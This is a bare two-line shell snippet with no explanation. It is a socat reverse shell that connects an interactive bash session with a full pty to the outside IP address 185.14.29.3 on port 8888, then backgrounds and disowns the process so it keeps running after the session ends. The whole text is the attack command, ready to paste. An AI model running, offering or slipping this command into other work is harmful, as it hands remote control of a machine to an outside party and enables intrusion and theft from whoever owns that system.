socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:185.14.29.3:8888 &
disown
